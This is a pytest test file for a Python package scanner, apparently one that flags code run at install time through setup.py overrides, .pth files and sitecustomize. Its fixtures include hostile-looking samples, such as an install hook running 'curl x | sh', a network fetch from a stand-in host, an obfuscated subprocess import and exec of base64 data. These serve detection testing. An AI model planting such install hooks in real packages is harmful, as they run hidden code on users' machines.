"""PY-SETUP-EXEC, PY-PTH-EXEC, PY-SITECUSTOMIZE: code that runs at install time or at every interpreter start."""

from __future__ import annotations

import textwrap

import pytest

from plugyard_analysis.rules.install_time import PTH_EXEC, SETUP_EXEC, SITECUSTOMIZE, check_build_backend, check_pth, check_setup, check_sitecustomize
from plugyard_analysis.sources import parse_python, read_plugin_file


def setup_hits(code: str, path: str = "setup.py") -> list[tuple[str, str]]:
    src = parse_python(path, textwrap.dedent(code).encode())
    return [(hit.severity or SETUP_EXEC.severity, hit.detail) for hit in check_setup(src)]


def pth_hits(text: str, path: str = "sample/x.pth") -> list[str]:
    return [hit.severity or PTH_EXEC.severity for hit in check_pth(read_plugin_file(path, text.encode()))]


MALICIOUS_SETUP = {
    "install override class": """
        import os
        from setuptools import setup
        from setuptools.command.install import install
        class Post(install):
            def run(self):
                install.run(self)
                os.system("curl x | sh")
        setup(name="x", cmdclass={"install": Post})
    """,
    "develop override via cmdclass only": """
        from setuptools import setup
        from mybuild import Hook
        setup(name="x", cmdclass={"develop": Hook})
    """,
    "cmdclass variable": """
        from setuptools import setup
        from mybuild import Hook
        commands = dict(egg_info=Hook)
        setup(name="x", cmdclass=commands)
    """,
    "network": """
        import urllib.request
        from setuptools import setup
        urllib.request.urlopen("http://stage.example.invalid/x").read()
        setup(name="x")
    """,
    "subprocess": """
        import subprocess, sys
        from setuptools import setup
        subprocess.Popen([sys.executable, "-c", "print(1)"])
        setup(name="x")
    """,
    "computed module name": """
        from setuptools import setup
        def read_version():
            mod = __import__("subp" + "rocess")
            mod.Popen(["python", "-c", "print(1)"])
            return "1.0"
        setup(name="x", version=read_version())
    """,
    "exec of decoded string": """
        import base64
        from setuptools import setup
        exec(base64.b64decode("cHJpbnQoMSk="))
        setup(name="x")
    """,
    "distutils install": """
        from distutils.core import setup
        from distutils.command.install import install
        class I(install):
            pass
        setup(name="x", cmdclass={"install": I})
    """,
}

BENIGN_SETUP = {
    "plain": """
        from setuptools import setup, find_packages
        setup(name="x", version="1.0", packages=find_packages())
    """,
    "readme": """
        from pathlib import Path
        from setuptools import setup
        setup(name="x", long_description=(Path(__file__).parent / "README.md").read_text())
    """,
    "version exec": """
        import os
        from setuptools import setup
        about = {}
        with open(os.path.join("pkg", "__about__.py")) as f:
            exec(f.read(), about)
        setup(name="x", version=about["__version__"])
    """,
    "runpy version": """
        import runpy
        from setuptools import setup
        setup(name="x", version=runpy.run_path("pkg/_version.py")["__version__"])
    """,
    "git describe": """
        import subprocess
        from setuptools import setup
        version = subprocess.check_output(["git", "describe", "--tags"], text=True).strip()
        setup(name="x", version=version)
    """,
    "build_ext override": """
        from setuptools import setup
        from setuptools.command.build_ext import build_ext
        class Optional(build_ext):
            pass
        setup(name="x", cmdclass={"build_ext": Optional})
    """,
}


@pytest.mark.parametrize("name", sorted(MALICIOUS_SETUP))
def test_flags_setup(name: str) -> None:
    assert [s for s, _ in setup_hits(MALICIOUS_SETUP[name])] == ["high"]


@pytest.mark.parametrize("name", sorted(BENIGN_SETUP))
def test_ignores_benign_setup(name: str) -> None:
    assert setup_hits(BENIGN_SETUP[name]) == []


def test_only_setup_py_is_judged() -> None:
    assert setup_hits(MALICIOUS_SETUP["subprocess"], path="sample/tools.py") == []


def test_in_tree_build_backend_warns() -> None:
    toml = b'[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_build"]\n'
    found = list(check_build_backend(read_plugin_file("pyproject.toml", toml)))
    assert [h.severity for h in found] == ["medium"]
    assert list(check_build_backend(read_plugin_file("pyproject.toml", b'[build-system]\nbuild-backend = "hatchling.build"\n'))) == []


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("import os; os.system('x')\n", ["critical"]),
        ("# comment\n../lib\nimport _hook\n", ["critical"]),
        ("import\tsys\n", ["critical"]),
        ("../lib\n../vendor\n", []),  # plain directories, as editable installs write
        ("# lines starting with import would run; exec( is not used\n/opt/plugyard/src\n", []),
        ("  import sys\n", []),  # site.py only runs lines that start with "import"
        ("/tmp/.cache/lib\n", ["medium"]),  # a world-writable directory on every interpreter's path
        ("/home/alice/.local/.hidden\n", ["medium"]),
        ("exec(open('x').read())\n", ["high"]),
    ],
)
def test_pth(text: str, expected: list[str]) -> None:
    assert pth_hits(text) == expected


def test_pth_rule_ignores_other_files() -> None:
    assert pth_hits("import os\n", path="sample/paths.txt") == []


@pytest.mark.parametrize(("path", "flagged"), [("sitecustomize.py", True), ("sample/usercustomize.py", True), ("sample/customize.py", False), ("sample/site_config.py", False)])
def test_sitecustomize(path: str, flagged: bool) -> None:
    found = list(check_sitecustomize(read_plugin_file(path, b"import sys\n")))
    assert bool(found) is flagged
    assert all((h.severity or SITECUSTOMIZE.severity) == "high" for h in found)
